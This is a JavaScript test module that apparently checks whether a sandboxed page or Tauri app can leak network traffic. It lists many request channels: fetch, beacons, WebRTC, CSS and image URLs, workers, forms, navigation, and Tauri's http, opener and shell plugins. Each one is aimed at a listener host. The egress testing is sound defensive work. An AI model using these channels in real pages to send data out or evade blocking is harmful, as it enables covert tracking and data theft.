// Every way for a page to reach a server, as a function body for the page; each aims at `host`, where a listener receives TCP and
// UDP on the same port. Only what arrives there, and what the tracer saw, counts; not what the page answers.

/** Adds an element to the page; it requests its resources at once. */
const element = (name, attributes, inner = "") => `
    const made = document.createElement(${JSON.stringify(name)});
    for (const [key, value] of Object.entries(${JSON.stringify(attributes)})) made.setAttribute(key, value);
    made.innerHTML = ${JSON.stringify(inner)};
    (made.localName === "link" || made.localName === "meta" ? document.head : document.body).append(made);`;

const style = text => `
    const sheet = document.createElement("style");
    sheet.textContent = ${JSON.stringify(text)};
    const shown = Object.assign(document.createElement("p"), { className: "leak", textContent: "leak" });
    document.head.append(sheet);
    document.body.append(shown);`;

const svg = inner => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(`<svg xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`)});`;

const link = (rel, href, more = {}) => element("link", { rel, href, ...more });

export const leakAttempts = host => {
    const url = path => `http://${host}/${path}`;
    return {
        fetch: `fetch("${url("fetch")}").catch(() => {});`,
        "fetch no-cors": `fetch("${url("fetch-no-cors")}", { mode: "no-cors", method: "POST", body: "face" }).catch(() => {});`,
        "fetch keepalive": `fetch("${url("fetch-keepalive")}", { keepalive: true, method: "POST", body: "face" }).catch(() => {});`,
        XMLHttpRequest: `const request = new XMLHttpRequest(); request.open("POST", "${url("xhr")}"); request.send("face");`,
        "XMLHttpRequest in step": `try { const request = new XMLHttpRequest(); request.open("GET", "${url("xhr-sync")}", false); request.send(); } catch {}`,
        sendBeacon: `navigator.sendBeacon("${url("beacon")}", "face");`,
        WebSocket: `try { new WebSocket("ws://${host}/socket"); } catch {}`,
        EventSource: `try { new EventSource("${url("events")}"); } catch {}`,
        WebRTC: `
            if (window.RTCPeerConnection) {
                const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }, { urls: "turn:${host}", username: "a", credential: "b" }] });
                peer.createDataChannel("face");
                peer.createOffer().then(offer => peer.setLocalDescription(offer)).catch(() => {});
            }`,
        WebTransport: `try { new WebTransport("https://${host}/transport"); } catch {}`,
        "new Image": `new Image().src = "${url("image")}";`,
        img: element("img", { src: url("img") }),
        "img srcset": element("img", { srcset: `${url("srcset")} 1x` }),
        "picture source": element("picture", {}, `<source srcset="${url("source")}"><img alt="">`),
        "input image": element("input", { type: "image", src: url("input") }),
        "background attribute": element("table", { background: url("background") }, "<tr><td>leak</td></tr>"),
        "css background": style(`.leak { background: url("${url("css")}") }`),
        "css content": style(`.leak::before { content: url("${url("content")}") }`),
        "css cursor and mask": style(`.leak { cursor: url("${url("cursor")}"), auto; -webkit-mask-image: url("${url("mask")}"); list-style-image: url("${url("list")}"); border-image: url("${url("border")}") 1 }`),
        "css image-set": style(`.leak { background: -webkit-image-set(url("${url("set")}") 1x) }`),
        "@import": style(`@import url("${url("import.css")}");`),
        "@font-face": style(`@font-face { font-family: leak; src: url("${url("font.woff2")}") } .leak { font-family: leak }`),
        FontFace: `new FontFace("leak2", "url(${url("fontface.woff2")})").load().catch(() => {});`,
        "link stylesheet": link("stylesheet", url("style.css")),
        "link icon": link("icon", url("icon.png")),
        "link manifest": link("manifest", url("manifest.json")),
        "link prefetch": link("prefetch", url("prefetch")),
        "link preload": link("preload", url("preload"), { as: "image" }),
        "link modulepreload": link("modulepreload", url("modulepreload.js")),
        "link preconnect": link("preconnect", `http://${host}`),
        "link dns-prefetch": link("dns-prefetch", "//face.leak.invalid"),
        "script src": element("script", { src: url("script.js") }),
        "script module": element("script", { type: "module", src: url("module.js") }),
        "import()": `import("${url("dynamic.js")}").catch(() => {});`,
        Worker: `try { new Worker("${url("worker.js")}"); } catch {}`,
        "Worker from a blob": `try { new Worker(URL.createObjectURL(new Blob(['fetch("${url("blob-worker")}")']))); } catch {}`,
        SharedWorker: `try { new SharedWorker("${url("shared.js")}"); } catch {}`,
        ServiceWorker: `navigator.serviceWorker?.register("${url("service.js")}").catch(() => {});`,
        Worklet: `try { new AudioContext().audioWorklet.addModule("${url("worklet.js")}").catch(() => {}); } catch {}`,
        iframe: element("iframe", { src: url("frame") }),
        "iframe srcdoc": element("iframe", { srcdoc: `<img src="${url("srcdoc")}">` }),
        "iframe data": element("iframe", { src: `data:text/html,<img src="${url("data")}">` }),
        object: element("object", { data: url("object") }),
        embed: element("embed", { src: url("embed") }),
        video: element("video", { src: url("video"), poster: url("poster"), autoplay: "" }),
        audio: element("audio", { src: url("audio"), autoplay: "" }),
        track: element("video", {}, `<track default src="${url("track.vtt")}">`),
        "svg image": svg(`<image href="${url("svg-image")}" width="9" height="9"/>`),
        "svg use": svg(`<use href="${url("svg-use.svg#x")}"/>`),
        "svg feImage": svg(`<filter id="leak"><feImage href="${url("feimage")}"/></filter><rect filter="url(#leak)" width="9" height="9"/>`),
        "xml stylesheet": `new DOMParser().parseFromString('<?xml-stylesheet href="${url("xsl")}"?><a/>', "text/xml");`,
        "form get": `const form = Object.assign(document.createElement("form"), { action: "${url("form")}" }); document.body.append(form); form.submit();`,
        "form post": `const form = Object.assign(document.createElement("form"), { action: "${url("form-post")}", method: "post", target: "_blank" }); document.body.append(form); form.submit();`,
        "a click": `const a = Object.assign(document.createElement("a"), { href: "${url("a")}" }); document.body.append(a); a.click();`,
        "a download": `const a = Object.assign(document.createElement("a"), { href: "${url("download")}", download: "face" }); document.body.append(a); a.click();`,
        "a ping": `const a = Object.assign(document.createElement("a"), { href: "#", ping: "${url("ping")}" }); document.body.append(a); a.click();`,
        "a blank": `const a = Object.assign(document.createElement("a"), { href: "${url("blank")}", target: "_blank" }); document.body.append(a); a.click();`,
        "window.open": `window.open("${url("open")}");`,
        "meta refresh": element("meta", { "http-equiv": "refresh", content: `0;url=${url("refresh")}` }),
        "meta policy with a report": element("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${url("report")}` }) + `new Image().src = "photo://localhost/x";`,
        "location.href": `location.href = "${url("href")}";`,
        "location.replace": `location.replace("${url("replace")}");`,
        "location, another scheme": `location.href = "ftp://${host}/";`,
        "Tauri's http plugin": invoke("plugin:http|fetch", { clientConfig: { method: "GET", url: url("http-plugin"), headers: [] } }),
        "Tauri's opener and shell": invoke("plugin:opener|open_url", { url: url("opener") }) + invoke("plugin:shell|open", { path: url("shell") }),
        "Tauri's webview": invoke("plugin:webview|create_webview_window", { options: { label: "leak", url: url("webview") } }),
    };
};

function invoke(command, args) {
    return `window.__TAURI_INTERNALS__?.invoke(${JSON.stringify(command)}, ${JSON.stringify(args)}).catch(() => {});`;
}
